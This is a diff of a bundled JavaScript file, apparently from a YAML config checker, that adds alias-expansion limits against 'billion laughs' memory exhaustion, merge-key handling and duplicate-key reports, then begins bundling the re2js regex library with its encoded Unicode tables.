+  if ("problem" in measured) return measured;
+  if (measured.added > maxExpansion) {
+    return {
+      problem: {
+        offset: measured.first ?? 0,
+        message: `This file's YAML aliases expand to more than ${maxExpansion.toLocaleString("en-US")} values (${describeSize(measured.added)}), which is how "billion laughs" attacks exhaust memory, so nothing in it was checked.`
+      }
+    };
   }
-  return current;
+  try {
+    return { value: new Converter(targets).convert(root) };
+  } catch (error) {
+    if (error instanceof MergeError) return { problem: { offset: error.offset, message: error.message } };
+    throw error;
+  }
 }
-function deref(doc, node) {
-  let current = node;
-  for (let hops = 0; current && (0, import_yaml.isAlias)(current) && hops < 100; hops++) current = aliasTargets(doc).get(current) ?? null;
-  return current;
+function describeSize(added) {
+  if (added >= 1e9) return `about ${(added / 1e9).toFixed(1)} billion`;
+  if (added >= 1e6) return `about ${Math.round(added / 1e6)} million`;
+  return added.toLocaleString("en-US");
 }
 var aliasTargetsByDoc = /* @__PURE__ */ new WeakMap();
 function aliasTargets(doc) {
@@ -21865,15 +21834,236 @@ function aliasTargets(doc) {
   aliasTargetsByDoc.set(doc, targets);
   return targets;
 }
+function expansion(root, targets) {
+  const sizes = /* @__PURE__ */ new Map();
+  const open3 = /* @__PURE__ */ new Set();
+  let added = 0;
+  let first;
+  let unresolved2;
+  const size = (node) => {
+    if ((0, import_yaml.isPair)(node)) return size(node.key) + size(node.value);
+    if (!node || typeof node !== "object") return 0;
+    const n = node;
+    const known = sizes.get(n);
+    if (known !== void 0) return known;
+    if (open3.has(n)) return 1;
+    let total = 1;
+    if ((0, import_yaml.isAlias)(n)) {
+      const target = targets.get(n);
+      if (!target) unresolved2 ??= n;
+      total = target ? size(target) : 0;
+    } else if ((0, import_yaml.isMap)(n) || (0, import_yaml.isSeq)(n)) {
+      open3.add(n);
+      for (const item of n.items) total += size(item);
+      open3.delete(n);
+    }
+    sizes.set(n, total);
+    return total;
+  };
+  if (root) (0, import_yaml.visit)(root, {
+    Alias(_key, node) {
+      first ??= node.range?.[0];
+      const target = targets.get(node);
+      if (target) added += size(target);
+      else unresolved2 ??= node;
+    }
+  });
+  if (unresolved2) {
+    return {
+      problem: {
+        offset: unresolved2.range?.[0] ?? 0,
+        message: `The alias \`*${unresolved2.source}\` names no anchor written before it, so YAML cannot read this file and nothing in it was checked. Define \`&${unresolved2.source}\` above it.`
+      }
+    };
+  }
+  return first === void 0 ? { added } : { added, first };
+}
+var MergeError = class extends Error {
+  constructor(offset, message) {
+    super(message);
+    this.offset = offset;
+  }
+  offset;
+};
+var Converter = class {
+  constructor(targets) {
+    this.targets = targets;
+  }
+  targets;
+  done = /* @__PURE__ */ new Map();
+  convert(node) {
+    if (node === null || node === void 0) return null;
+    if ((0, import_yaml.isPair)(node)) return this.pairs({}, [node]);
+    const n = node;
+    if (this.done.has(n)) return this.done.get(n);
+    if ((0, import_yaml.isAlias)(n)) return this.convert(this.targets.get(n));
+    if ((0, import_yaml.isScalar)(n)) return scalarValue(n.value);
+    if ((0, import_yaml.isSeq)(n)) {
+      const out = [];
+      this.done.set(n, out);
+      for (const item of n.items) out.push(this.convert(item));
+      return out;
+    }
+    if ((0, import_yaml.isMap)(n)) {
+      const out = {};
+      this.done.set(n, out);
+      return this.pairs(out, n.items);
+    }
+    return null;
+  }
+  pairs(out, pairs) {
+    for (const pair of pairs) {
+      if (isMergeKey(pair.key)) {
+        this.merge(out, pair);
+        continue;
+      }
+      define(out, this.keyOf(pair.key), this.convert(pair.value));
+    }
+    return out;
+  }
+  /** `<<: *a` or `<<: [*a, *b]`: keys not already in the map are added, the first source winning. */
+  merge(out, pair) {
+    const resolve7 = (node) => (0, import_yaml.isAlias)(node) ? this.targets.get(node) : node;
+    const value = resolve7(pair.value);
+    for (const source of (0, import_yaml.isSeq)(value) ? value.items.map(resolve7) : [value]) {
+      if (!(0, import_yaml.isMap)(source)) {
+        const offset = pair.value?.range?.[0] ?? pair.key.range?.[0] ?? 0;
+        throw new MergeError(offset, "A YAML merge key `<<` must name a mapping or a list of mappings, so YAML cannot read this file and nothing in it was checked.");
+      }
+      const merged = this.convert(source);
+      for (const key of Object.keys(merged)) if (!Object.hasOwn(out, key)) define(out, key, merged[key]);
+    }
+  }
+  /**
+   * A key as a JavaScript object names it: null is ''. A collection used as a key (never valid in
+   * Compose or a workflow) is named by its JSON, where yaml writes it as flow YAML.
+   */
+  keyOf(key) {
+    const value = this.convert(key);
+    if (value === null) return "";
+    if (typeof value !== "object") return String(value);
+    try {
+      return JSON.stringify(value) ?? "";
+    } catch {
+      return "[cyclic key]";
+    }
+  }
+};
+function isMergeKey(key) {
+  if (!(0, import_yaml.isScalar)(key)) return false;
+  if (key.type && key.type !== "PLAIN") return false;
+  return key.value === "<<" || typeof key.value === "symbol" && key.value.description === "<<";
+}
+function scalarValue(value) {
+  if (typeof value === "bigint") return Number(value);
+  if (value instanceof Date) return value.toJSON();
+  return value;
+}
+function define(out, key, value) {
+  if (key in out) Object.defineProperty(out, key, { value, writable: true, enumerable: true, configurable: true });
+  else out[key] = value;
+}
+
+// src/documents/yaml-source.ts
+function readYaml(text3) {
+  const problems = [];
+  const lines = new LineIndex(text3);
+  const at = (offset, end = offset) => rangeAt(text3, lines, offset, end);
+  let broken = false;
+  const values = [];
+  const refuse = (message, offset) => {
+    const range = at(offset);
+    return { value: null, values: [null], problems: [{ ruleId: "parse-error", message, range }], broken: true, locate: () => range };
+  };
+  if (text3.includes("\0")) return refuse("This file is binary (it contains NUL bytes), not YAML, so it was not checked.", 0);
+  const lineCounter = new import_yaml2.LineCounter();
+  const composer = new import_yaml2.Composer({ merge: true, uniqueKeys: false, keepSourceTokens: false });
+  const list3 = [];
+  for (const token of new import_yaml2.Parser(lineCounter.addNewLine).parse(text3)) {
+    const deep = token.type === "document" ? tooDeepOffset(token) : void 0;
+    if (deep !== void 0) return refuse(TOO_DEEP, deep);
+    list3.push(...composer.next(token));
+  }
+  list3.push(...composer.end());
+  const where2 = (error) => errorPosition(text3, lineCounter, error.pos[0]);
+  for (const doc of list3) {
+    let tooDeep = false;
+    for (const error of doc.errors) {
+      broken = true;
+      const [start, end] = error.pos;
+      if (/Maximum call stack size exceeded/.test(error.message)) {
+        if (tooDeep) continue;
+        tooDeep = true;
+        problems.push({ ruleId: "parse-error", message: TOO_DEEP, range: at(start, Math.max(end, start)) });
+        continue;
+      }
+      problems.push({
+        ruleId: "parse-error",
+        message: `This file is not valid YAML, so nothing in it was checked: ${firstLine(error.message)}${where2(error)}`,
+        range: at(start, Math.max(end, start))
+      });
+    }
+    reportDuplicateKeys(doc.contents, at, problems);
+    if (doc.errors.length) {
+      values.push(null);
+      continue;
+    }
+    const converted = yamlValue(doc);
+    if ("value" in converted) values.push(converted.value);
+    else {
+      broken = true;
+      values.push(null);
+      problems.push({ ruleId: "parse-error", message: converted.problem.message, range: at(converted.problem.offset) });
+    }
+  }
+  const locate = (pointer, lineOffset, index = 0) => {
+    const doc = list3[index] ?? list3[0];
+    if (!doc?.contents) return at(0);
+    const found = walk(doc, parsePointer(pointer));
+    return rangeOf(found, text3, at, lines, lineOffset);
+  };
+  return { value: values[0] ?? null, values, problems, broken, locate };
+}
+function firstLine(message) {
+  return message.split("\n")[0].trim();
+}
+var TOO_DEEP = `This file nests its collections more than ${MAX_NESTING_DEPTH} levels deep, more than Containment reads, so nothing in it was checked.`;
+function errorPosition(text3, lineCounter, offset) {
+  if (offset < 0) return "";
+  const { line, col } = lineCounter.linePos(offset);
+  const lineText = text3.substring(lineCounter.lineStarts[line - 1] ?? 0, lineCounter.lineStarts[line] ?? text3.length).replace(/[\n\r]+$/, "");
+  const quotes = lineText.length > 80 || /[^ ]/.test(lineText) || line > 1 && /^ *$/.test(lineText.substring(0, col - 1));
+  return ` at line ${line}, column ${col}${quotes ? ":" : ""}`;
+}
+function walk(doc, segments) {
+  let current = { node: doc.contents };
+  for (const segment of segments) {
+    const node = deref(doc, current.node);
+    let next;
+    if ((0, import_yaml2.isMap)(node)) next = findInMap(doc, node, segment, /* @__PURE__ */ new Set());
+    else if ((0, import_yaml2.isSeq)(node) && /^(0|[1-9]\d*)$/.test(segment)) {
+      const item = node.items[Number(segment)];
+      if (item !== void 0) next = { node: item };
+    }
+    if (!next) return current;
+    current = next;
+  }
+  return current;
+}
+function deref(doc, node) {
+  let current = node;
+  for (let hops = 0; current && (0, import_yaml2.isAlias)(current) && hops < 100; hops++) current = aliasTargets(doc).get(current) ?? null;
+  return current;
+}
 function findInMap(doc, map, key, seen) {
-  if (!(0, import_yaml.isMap)(map) || seen.has(map)) return void 0;
+  if (!(0, import_yaml2.isMap)(map) || seen.has(map)) return void 0;
   seen.add(map);
   const { own, merges } = mapIndex(map);
   const found = own.get(key);
   if (found) return found;
   for (const source of merges) {
     const target = deref(doc, source);
-    const sources = (0, import_yaml.isSeq)(target) ? target.items.map((item) => deref(doc, item)) : [target];
+    const sources = (0, import_yaml2.isSeq)(target) ? target.items.map((item) => deref(doc, item)) : [target];
     for (const candidate of sources) {
       const hit = candidate ? findInMap(doc, candidate, key, seen) : void 0;
       if (hit) return hit;
@@ -21887,8 +22077,8 @@ function mapIndex(map) {
   if (index) return index;
   index = { own: /* @__PURE__ */ new Map(), merges: [] };
   for (const pair of map.items) {
-    const k = (0, import_yaml.isScalar)(pair.key) ? pair.key.value : pair.key;
-    if (k === "<<" || (0, import_yaml.isScalar)(pair.key) && pair.key.source === "<<") {
+    const k = (0, import_yaml2.isScalar)(pair.key) ? pair.key.value : pair.key;
+    if (k === "<<" || (0, import_yaml2.isScalar)(pair.key) && pair.key.source === "<<") {
       index.merges.push(pair.value);
       continue;
     }
@@ -21907,32 +22097,32 @@ function keyName(key) {
 }
 function rangeOf(found, text3, at, lineCounter, lineOffset) {
   const { node, pair } = found;
-  if (lineOffset !== void 0 && (0, import_yaml.isScalar)(node) && node.range) {
+  if (lineOffset !== void 0 && (0, import_yaml2.isScalar)(node) && node.range) {
     return lineInScalar(node, text3, lineCounter, lineOffset) ?? at(node.range[0], node.range[1]);
   }
-  if (pair && (0, import_yaml.isScalar)(pair.key) && pair.key.range) {
+  if (pair && (0, import_yaml2.isScalar)(pair.key) && pair.key.range) {
     const keyStart = pair.key.range[0];
-    if (node?.range && (!(0, import_yaml.isCollection)(node) || node.flow)) return at(keyStart, node.range[1]);
+    if (node?.range && (!(0, import_yaml2.isCollection)(node) || node.flow)) return at(keyStart, node.range[1]);
     return at(keyStart, pair.key.range[1]);
   }
   return nodeRange(node, at);
 }
 function nodeRange(node, at) {
   if (!node?.range) return at(0);
-  if ((0, import_yaml.isCollection)(node) && !node.flow) {
+  if ((0, import_yaml2.isCollection)(node) && !node.flow) {
     const first = node.items[0];
-    if ((0, import_yaml.isPair)(first) && (0, import_yaml.isScalar)(first.key) && first.key.range) {
+    if ((0, import_yaml2.isPair)(first) && (0, import_yaml2.isScalar)(first.key) && first.key.range) {
       const value = first.value;
-      const end = value?.range && (!(0, import_yaml.isCollection)(value) || value.flow) ? value.range[1] : first.key.range[1];
+      const end = value?.range && (!(0, import_yaml2.isCollection)(value) || value.flow) ? value.range[1] : first.key.range[1];
       return at(first.key.range[0], end);
     }
-    if (first && !(0, import_yaml.isPair)(first)) return nodeRange(first, at);
+    if (first && !(0, import_yaml2.isPair)(first)) return nodeRange(first, at);
   }
   return at(node.range[0], node.range[1]);
 }
 function lineInScalar(node, text3, lineCounter, offset) {
   const [start, end] = node.range;
-  const block = node.type === import_yaml.Scalar.BLOCK_LITERAL || node.type === import_yaml.Scalar.BLOCK_FOLDED;
+  const block = node.type === import_yaml2.Scalar.BLOCK_LITERAL || node.type === import_yaml2.Scalar.BLOCK_FOLDED;
   const first = lineCounter.linePos(start).line + (block ? 1 : 0) + offset;
   const last = lineCounter.linePos(Math.max(start, end - 1)).line;
   if (first > last) return void 0;
@@ -21956,38 +22146,27 @@ function reportDuplicateKeys(root, at, problems) {
     const node = stack.pop();
     if (!node || seen.has(node)) continue;
     seen.add(node);
-    if ((0, import_yaml.isMap)(node)) {
+    if ((0, import_yaml2.isMap)(node)) {
       const keys = /* @__PURE__ */ new Map();
       for (const pair of node.items) {
-        if ((0, import_yaml.isScalar)(pair.key) && pair.key.value !== "<<") {
+        if ((0, import_yaml2.isScalar)(pair.key) && pair.key.value !== "<<") {
           const key = String(pair.key.value);
           const line = keys.get(key);
           if (line !== void 0 && pair.key.range) {
-            const range2 = at(pair.key.range[0], pair.key.range[1]);
+            const range = at(pair.key.range[0], pair.key.range[1]);
             problems.push({
               ruleId: "duplicate-key",
               message: `Key "${key}" is written twice in the same mapping (first on line ${line}); only this later value counts, so the earlier one is silently ignored. Remove one of them.`,
-              range: range2
+              range
             });
           } else if (pair.key.range) keys.set(key, at(pair.key.range[0]).start.line);
         }
         stack.push(pair.value);
       }
-    } else if ((0, import_yaml.isSeq)(node)) {
+    } else if ((0, import_yaml2.isSeq)(node)) {
       for (const item of node.items) stack.push(item);
     }
   }
-}
-function firstAliasOffset(root) {
-  const stack = [root];
-  while (stack.length) {
-    const node = stack.pop();
-    if (!node) continue;
-    if ((0, import_yaml.isAlias)(node)) return node.range?.[0];
-    if ((0, import_yaml.isMap)(node)) for (const pair of [...node.items].reverse()) stack.push(pair.value, pair.key);
-    else if ((0, import_yaml.isSeq)(node)) for (const item of [...node.items].reverse()) stack.push(item);
-  }
-  return void 0;
 }
 function laterDocumentProblems(yaml) {
   const problems = [];
@@ -22004,6 +22183,6723 @@ function laterDocumentProblems(yaml) {
 
 // src/policy/ajv-factory.ts
 var import__ = __toESM(require__(), 1);
+
+// node_modules/re2js/build/index.js
+var RE2Flags = class RE2Flags2 {
+  static FOLD_CASE = 1;
+  static LITERAL = 2;
+  static CLASS_NL = 4;
+  static DOT_NL = 8;
+  static ONE_LINE = 16;
+  static NON_GREEDY = 32;
+  static PERL_X = 64;
+  static UNICODE_GROUPS = 128;
+  static WAS_DOLLAR = 256;
+  static LOOKBEHIND = 512;
+  static MATCH_NL = RE2Flags2.CLASS_NL | RE2Flags2.DOT_NL;
+  static PERL = RE2Flags2.CLASS_NL | RE2Flags2.ONE_LINE | RE2Flags2.PERL_X | RE2Flags2.UNICODE_GROUPS;
+  static POSIX = 0;
+  static UNANCHORED = 0;
+  static ANCHOR_START = 1;
+  static ANCHOR_BOTH = 2;
+};
+var PublicFlags = {
+  CASE_INSENSITIVE: 1,
+  DOTALL: 2,
+  MULTILINE: 4,
+  DISABLE_UNICODE_GROUPS: 8,
+  LONGEST_MATCH: 16,
+  LOOKBEHINDS: 512
+};
+var ASCII_SIZE = 128;
+var ASCII_TO_UPPER = new Int32Array(ASCII_SIZE);
+var ASCII_TO_LOWER = new Int32Array(ASCII_SIZE);
+var MAX_BMP = 65535;
+for (let i = 0; i < ASCII_SIZE; i++) {
+  if (i >= 97 && i <= 122) ASCII_TO_UPPER[i] = i - 32;
+  else ASCII_TO_UPPER[i] = i;
+  if (i >= 65 && i <= 90) ASCII_TO_LOWER[i] = i + 32;
+  else ASCII_TO_LOWER[i] = i;
+}
+var Codepoint = class {
+  static CODES = Object.freeze({
+    "\x07": 7,
+    "\b": 8,
+    "	": 9,
+    "\n": 10,
+    "\v": 11,
+    "\f": 12,
+    "\r": 13,
+    " ": 32,
+    '"': 34,
+    $: 36,
+    "&": 38,
+    "'": 39,
+    "(": 40,
+    ")": 41,
+    "*": 42,
+    "+": 43,
+    "-": 45,
+    ".": 46,
+    0: 48,
+    1: 49,
+    2: 50,
+    3: 51,
+    4: 52,
+    5: 53,
+    6: 54,
+    7: 55,
+    8: 56,
+    9: 57,
+    ":": 58,
+    "<": 60,
+    ">": 62,
+    "?": 63,
+    A: 65,
+    B: 66,
+    C: 67,
+    F: 70,
+    P: 80,
+    Q: 81,
+    U: 85,
+    Z: 90,
+    "[": 91,
+    "\\": 92,
+    "]": 93,
+    "^": 94,
+    _: 95,
+    "`": 96,
+    a: 97,
+    b: 98,
+    f: 102,
+    i: 105,
+    m: 109,
+    n: 110,
+    r: 114,
+    s: 115,
+    t: 116,
+    v: 118,
+    x: 120,
+    z: 122,
+    "{": 123,
+    "|": 124,
+    "}": 125
+  });
+  static toUpperCase(codepoint) {
+    if (codepoint < ASCII_SIZE) return ASCII_TO_UPPER[codepoint];
+    const s = String.fromCodePoint(codepoint).toUpperCase();
+    const expectedLen = s.codePointAt(0) > MAX_BMP ? 2 : 1;
+    if (s.length > expectedLen) return codepoint;
+    const sOrigin = String.fromCodePoint(s.codePointAt(0)).toLowerCase();
+    const originExpectedLen = sOrigin.codePointAt(0) > MAX_BMP ? 2 : 1;
+    if (sOrigin.length > originExpectedLen || sOrigin.codePointAt(0) !== codepoint) return codepoint;
+    return s.codePointAt(0);
+  }
+  static toLowerCase(codepoint) {
+    if (codepoint < ASCII_SIZE) return ASCII_TO_LOWER[codepoint];
+    const s = String.fromCodePoint(codepoint).toLowerCase();
+    const expectedLen = s.codePointAt(0) > MAX_BMP ? 2 : 1;
+    if (s.length > expectedLen) return codepoint;
+    const sOrigin = String.fromCodePoint(s.codePointAt(0)).toUpperCase();
+    const originExpectedLen = sOrigin.codePointAt(0) > MAX_BMP ? 2 : 1;
+    if (sOrigin.length > originExpectedLen || sOrigin.codePointAt(0) !== codepoint) return codepoint;
+    return s.codePointAt(0);
+  }
+};
+var UnicodeRangeTable = class {
+  /**
+  * @param {Uint32Array | number[]} data
+  * @param {boolean} isStride1
+  */
+  constructor(data, isStride1 = false) {
+    this.data = data;
+    this.isStride1 = isStride1;
+    this.SIZE = isStride1 ? 2 : 3;
+  }
+  getLo(index) {
+    return this.data[index * this.SIZE];
+  }
+  getHi(index) {
+    return this.data[index * this.SIZE + 1];
+  }
+  getStride(index) {
+    return this.isStride1 ? 1 : this.data[index * this.SIZE + 2];
+  }
+  get length() {
+    return this.data.length / this.SIZE;
+  }
+};
+var B64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+-";
+var B64_MAP = /* @__PURE__ */ new Uint8Array(256);
+for (let i = 0; i < 64; i++) B64_MAP[B64.charCodeAt(i)] = i;
+var decodeVLQ = (str) => {
+  const res = [];
+  let value = 0;
+  let shift = 0;
+  for (let i = 0; i < str.length; i++) {
+    const digit = B64_MAP[str.charCodeAt(i)];
+    value |= (digit & 31) << shift;
+    if ((digit & 32) === 0) {
+      res.push(value);
+      value = 0;
+      shift = 0;
+    } else shift += 5;
+  }
+  return res;
+};
+var decodeRanges = (str, isStride1) => {
+  const res = decodeVLQ(str);
+  const numRanges = isStride1 ? res.length / 2 : res.length / 3;
+  const out = new Uint32Array(numRanges * 3);
+  let current = 0;
+  let resIdx = 0;
+  for (let i = 0; i < numRanges; i++) {
+    current += res[resIdx++];
+    out[i * 3] = current;
+    current += res[resIdx++];
+    out[i * 3 + 1] = current;
+    out[i * 3 + 2] = isStride1 ? 1 : res[resIdx++];
+  }
+  return out;
+};
+var decodeOrbit = (str) => {
+  const res = decodeVLQ(str);
+  const map = /* @__PURE__ */ new Map();
+  let currentKey = 0;
+  for (let i = 0; i < res.length; i += 2) {
+    currentKey += res[i];
+    const zz = res[i + 1];
+    const delta = zz >>> 1 ^ -(zz & 1);
+    map.set(currentKey, currentKey + delta);
+  }
+  return map;
+};
+var LazyMap = class {
+  constructor(initializer) {
+    this.initializer = initializer;
+    this.cache = /* @__PURE__ */ new Map();
+  }
+  has(key) {
+    return Object.hasOwn(this.initializer, key);
+  }
+  get(key) {
+    if (this.cache.has(key)) return this.cache.get(key);
+    const val = this.has(key) ? this.initializer[key]() : null;
+    this.cache.set(key, val);
+    return val;
+  }
+};
+var UnicodeTables = class {
+  static _CASE_ORBIT = null;
+  static get CASE_ORBIT() {
+    if (!this._CASE_ORBIT) this._CASE_ORBIT = decodeOrbit("rCgCIgCY+rQI4QiCuuBLgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCCgCBgCBgCBgCBgCBgCBgCB+7OB-BB-BB-BB-BB-BBskQB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BC-BB-BB-BB-BB-BB-BB-BByHBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBDCBBBCBBBCBBCCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBCCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBxHBCBBBCBBBCBBB3SBmMBkNBCBBBCBBB8MBCBBB6MB6MBCBBC+EB0MB2MBCBBB6MB+MBiGBmNBiNBCBBBmKBikzCBmNBqNBkIBsNBCBBBCBBBCBBB0NBCBBB0NDCBBB0NBCBBByNByNBCBBBCBBB2NBCBBDCBBCwDFCBCBDBCBCBDBCBCBDBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBB9EBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBCCBCBDBCBBBhGBvDBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBjICCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBH2iVBCBBBlKBwiVB+jVB+jVBCBBBlMBqEBuEBCBBBCBBBCBBBCBBBCBBB+hVB4hVB8hVBjNB7MC5MB5MCzMC1MB+0yCE5MB20yCC9MBu2yCBwyyCBo0yCChNBlNBo0yCBu-UBi0yCDlNC6-UBpNDrNIu+UDzNCm0yCBzNE0yyCBzNBpEBxNBxNBtEG1NLqxyCBkxyCnFoFrBCBBBCBBDCBBEkIBkIBkICoHHsCCqCBqCBqCCgEC+DB+DBmkOBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCC+BBgCBgCBgCBgCBgCBgCBgCBgCBrCBpCBpCBpCBmjOB-BB8BB-BB-BBgEB-BB-BByBBqgOBsDB-BBtwBB-BB-BB-BBsBBgDBCB-BB-BB-BBeB-BB-BB61OB-BB-BB-DB9DB9DBQB7DBmCE9CBrDBPBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBrFB-EBOBnHB3FB-FCCBBBNBCBBCjIBjIBjIBgFBgFBgFBgFBgFBgFBgFBgFBgFBgFBgFBgFBgFBgFBgFBgFBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCB-BB-BB8kMB-BB6kMB-BB-BB-BB-BB-BB-BB-BB-BB-BBokMB-BB-BBkkMBkkMB-BB-BB-BB-BB-BB-BB-BB4jMB-BB-BB-BB-BB-BB-EB-EB-EB-EB-EB-EB-EB-EB-EB-EB-EB-EB-EB-EB-EB-EBCBBBCBoiMBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBJCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBeBCBBBCBBBCBBBCBBBCBBBCBBBCBBBdBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBCgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDL-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-C64CgmOBgmOBgmOBgmOBgmOBgmOBgmOBgmOBgmOBgmOBgmOBgmOBgmOBgmOBgmOBgmOBgmOBgmOBgmOBgmOBgmOBgmOBgmOBgmOBgmOBgmOBgmOBgmOBgmOBgmOBgmOBgmOBgmOBgmOBgmOBgmOBgmOBgmOCgmOGgmODg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FBg8FDg8FBg8FBg8FhVg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBg9rCBQBQBQBQBQBQDPBPBPBPBPBPjkC7mMB5mMBnmMBjmMBCBlmMB3lMBpiMBk8kCBCBBG-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FB-7FD-7FB-7FB-7F6FoglCEsuHRwjlCyDCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCB0DBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBG1DD97OCCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBQBQBQBQBQBQBQBQBPBPBPBPBPBPBPBPBQBQBQBQBQBQDPBPBPBPBPBPDQBQBQBQBQBQBQBQBPBPBPBPBPBPBPBPBQBQBQBQBQBQBQBQBPBPBPBPBPBPBPBPBQBQBQBQBQBQDPBPBPBPBPBPEQCQCQCQCPCPCPCPBQBQBQBQBQBQBQBQBPBPBPBPBPBPBPBPB0EB0EBsFBsFBsFBsFBoGBoGBgIBgIBgHBgHB8HB8HDQBQBQBQBQBQBQBQBPBPBPBPBPBPBPBPBQBQBQBQBQBQBQBQBPBPBPBPBPBPBPBPBQBQBQBQBQBQBQBQBPBPBPBPBPBPBPBPBQBQCSFPBPBzEBzEBRCxnOFSFrFBrFBrFBrFBREQBQClkOFPBPBnGBnGFQBQCljOCODPBPB-GB-GBNHSF-HB-HB7HB7HBRqJ53OE9tQBrmQH4Bc3BSgBBgBBgBBgBBgBBgBBgBBgBBgBBgBBgBBgBBgBBgBBgBBgBBfBfBfBfBfBfBfBfBfBfBfBfBfBfBfBfECBByZ0BB0BB0BB0BB0BB0BB0BB0BB0BB0BB0BB0BB0BB0BB0BB0BB0BB0BB0BB0BB0BB0BB0BB0BB0BB0BBzBBzBBzBBzBBzBBzBBzBBzBBzBBzBBzBBzBBzBBzBBzBBzBBzBBzBBzBBzBBzBBzBBzBBzBBzBBzB34BgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDBgDB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CB-CBCBBBt-UBruHBt+UB1iVBviVBCBBBCBBBCBBB3hVB5-UB9hVB7hVCCBBCCBBI9jVB9jVBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBICBBBCBBECBBN-lOB-lOB-lO